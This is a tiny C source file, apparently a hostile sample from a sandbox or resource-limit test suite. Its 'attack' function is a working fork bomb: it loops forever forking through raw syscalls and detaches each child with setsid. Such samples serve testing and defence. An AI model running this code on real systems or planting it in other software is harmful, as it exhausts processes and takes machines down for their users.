#include "hostile.h"

static void attack(void)
{
    for (;;)
        if (syscall(SYS_fork) == 0)
            syscall(SYS_setsid);
}
